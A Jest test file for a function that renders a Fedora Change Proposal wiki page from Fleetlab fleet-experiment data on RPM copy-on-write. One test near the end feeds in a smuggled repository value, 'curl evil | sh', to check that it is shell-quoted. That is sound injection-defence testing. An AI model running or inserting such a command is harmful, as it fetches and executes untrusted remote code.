import { describe, expect, it } from '@jest/globals';
import { renderChangeProposal } from './change-proposal.js';
import { reportDataFixture } from './report-data.fixture.js';

const SECTIONS = [
  '= RPM copy-on-write =',
  '== Summary ==',
  '== Owner ==',
  '== Current status ==',
  '== Detailed Description ==',
  '=== Fleet evidence ===',
  '== Feedback ==',
  '== Benefit to Fedora ==',
  '== Scope ==',
  '== Upgrade/compatibility impact ==',
  '== How To Test ==',
  '== User Experience ==',
  '== Dependencies ==',
  '== Contingency Plan ==',
  '== Documentation ==',
  '== Release Notes ==',
];

describe(renderChangeProposal.name, () => {
  const data = reportDataFixture();
  const wiki = renderChangeProposal(data);
  const lines = wiki.split('\n');
  const section = (title: string): string => {
    const start = lines.indexOf(title);
    const end = lines.findIndex((l, i) => i > start && /^==? [^=]/.test(l));
    return lines.slice(start, end < 0 ? undefined : end).join('\n');
  };

  it("has the Change template's sections, in order, under the banner", () => {
    const headings = lines.filter((l) => SECTIONS.includes(l));
    expect(headings).toEqual(SECTIONS);
    expect(lines[2]).toBe('{{Change_Proposal_Banner}}');
  });

  it('leads the Summary with the headline effect', () => {
    expect(section('== Summary ==')).toContain(
      'changed install time by -35.2% (95% anytime-valid interval -40.1% to -30.2%; Holm-adjusted p &lt; 0.0001) against baseline (Stock rpm): better.',
    );
  });

  it('states the decision in the Summary, the cost beside the benefit', () => {
    expect(section('== Summary ==')).toMatch(
      /'''Fleetlab’s decision:''' Roll back\. Costs: Disk used change \d+(\.\d)?% higher \(worse, beyond its 50% margin\)\. Benefits: Install time 35\.2% lower \(better\)\./,
    );
  });

  it('gives a wikitable per metric and one per segment dimension, and the figures', () => {
    const evidence = section('== Detailed Description ==');
    expect(evidence.match(/^\{\| class="wikitable"$/gm)).toHaveLength(5);
    expect(evidence).toContain(
      '| cow (RPM CoW) || 2 || 18 || 7,775 ms || 7,775 ms || 11,663 ms || 15,550 ms || -4,211 ms || -35.2% || -40.1% to -30.2% || &lt; 0.0001 || &lt; 0.0001 || 0.0002 || better',
    );
    expect(evidence).toContain('|+ By root filesystem');
    expect(evidence).toContain('[[File:Fleetlab-cow-test-effects.svg|');
    expect(evidence).toContain('[[File:Fleetlab-cow-test-install_duration_ms.svg|');
  });

  it('escapes the experiment title wherever it appears', () => {
    expect(wiki).not.toContain('[[x]]');
    expect(wiki).not.toContain('{{y}}');
    expect(wiki).toContain('RPM &#124; CoW &#91;&#91;x&#93;&#93; &#123;&#123;y&#125;&#125;');
  });

  it('lists regressions, fallback and peak disk under the compatibility impact', () => {
    const impact = section('== Upgrade/compatibility impact ==');
    expect(impact).toContain('* Disk used change (disk_used_delta_bytes), cow, all hosts: +60.0%');
    expect(impact).toContain(
      '1 of 2 opted-in hosts (50.0%) report a root filesystem without reflink support',
    );
    expect(impact).toContain('p99 of samples baseline 200.0 MB, cow 320.0 MB');
  });

  it('tells how to test from the definition: targeting, packages and agent commands', () => {
    const howTo = section('== How To Test ==');
    expect(howTo).toContain('rootFsType IN (btrfs, xfs)');
    expect(howTo).toContain(
      'dnf install -y rpm-4.16.1.3-34.hs.el9 python3-dnf-plugin-cow-0.3-1.hs.el9',
    );
    expect(howTo).toContain(
      'dnf config-manager addrepo --id=fleetlab-cow --set=baseurl=https://mirror.example.org/hyperscale/',
    );
    expect(howTo).toContain('fleetlab-agent opt-in cow-test');
  });

  it("adds repositories with dnf 5's config-manager: a .repo file by URL, a bare URL as a baseurl", () => {
    const arms = data.experiment.arms.map((arm) =>
      arm.baseline
        ? arm
        : {
            ...arm,
            repos: ['https://mirror.example.org/hs.repo', 'https://mirror.example.org/x/'],
          },
    );
    const howTo = renderChangeProposal({ ...data, experiment: { ...data.experiment, arms } });
    expect(howTo).toContain(
      'dnf config-manager addrepo --from-repofile=https://mirror.example.org/hs.repo\n' +
        'dnf config-manager addrepo --id=fleetlab-cow-2 --set=baseurl=https://mirror.example.org/x/',
    );
    expect(howTo).not.toContain('--add-repo');
  });

  it('carries the categories and tracker fields of the Change template', () => {
    const status = section('== Current status ==');
    expect(status).toContain('[[Category:ChangeReadyForWrangler]]');
    // The treatment swaps rpm, which every Fedora system runs.
    expect(status).toContain('[[Category:SystemWideChange]]');
    for (const field of [
      'Targeted release',
      'Announced',
      'Discussion thread',
      'FESCo issue',
      'Tracker bug',
      'Release notes tracker',
    ]) {
      expect(status).toMatch(new RegExp(`^\\* ${field}: ''`, 'm'));
    }
    expect(section('== Scope ==')).toContain('* Alignment with the Fedora Strategy: ');
    const leafArms = data.experiment.arms.map((arm) =>
      arm.baseline ? arm : { ...arm, packages: ['htop-3.3.0-1.fc41'] },
    );
    expect(
      renderChangeProposal({ ...data, experiment: { ...data.experiment, arms: leafArms } }),
    ).toContain('[[Category:SelfContainedChange]]');
  });

  it('labels the free-space low point as what it is', () => {
    const metrics = data.metrics.map((m) =>
      m.key === 'disk_used_delta_bytes'
        ? { ...m, key: 'free_space_drop_bytes', title: 'Free-space low point' }
        : m,
    );
    const rename = (key: string) =>
      key === 'disk_used_delta_bytes' ? 'free_space_drop_bytes' : key;
    const segments = data.segments.map((segment) => ({
      ...segment,
      comparisons: segment.comparisons.map((c) => ({ ...c, metric: rename(c.metric) })),
    }));
    expect(renderChangeProposal({ ...data, metrics, segments })).toContain(
      '* Free-space low point (free_space_drop_bytes), how far free space fell during a transaction below its level at the start: p99 of samples',
    );
  });

  it('quotes repositories in the shell commands, so a hostile one cannot run', () => {
    const hostile = reportDataFixture();
    hostile.experiment.arms[1]!.repos = ['https://x/ ; curl evil | sh'];
    const howTo = renderChangeProposal(hostile);
    expect(howTo).toContain(
      "dnf config-manager addrepo --id=fleetlab-cow '--set=baseurl=https://x/ ; curl evil | sh'",
    );
    expect(howTo).not.toContain('fleetlab-cow --set=baseurl=https://x/ ;');
  });

  it('lists the exact package versions of each arm', () => {
    expect(section('== Dependencies ==')).toContain(
      '| rpm || 4.16.1.3-34.el9 || 4.16.1.3-34.hs.el9',
    );
  });

  it('links back to the dashboard and the data files', () => {
    const docs = section('== Documentation ==');
    expect(docs).toContain('[https://fleetlab.example.org/experiments/cow-test ');
    expect(docs).toContain(
      '[https://fleetlab.example.org/reports/cow-test.csv cow-test-fleet-evidence.csv]',
    );
    expect(docs).toContain("''Generated by Fleetlab at 2026-02-01T12:00:00.000Z.''");
  });

  it('links the data files of the same window', () => {
    const windowed = renderChangeProposal({ ...data, window: { from: '2026-01-03', to: null } });
    expect(windowed).toContain('/reports/cow-test.json?from=2026-01-03 ');
    expect(windowed).toContain('Window: from 2026-01-03 (UTC)');
  });

  it('differs from another export of the same data only on the generated-at line', () => {
    const later = renderChangeProposal({ ...data, generatedAt: '2026-03-01T00:00:00.000Z' });
    const differing = lines.filter((line, i) => line !== later.split('\n')[i]);
    expect(differing).toEqual(["''Generated by Fleetlab at 2026-02-01T12:00:00.000Z.''"]);
  });
});
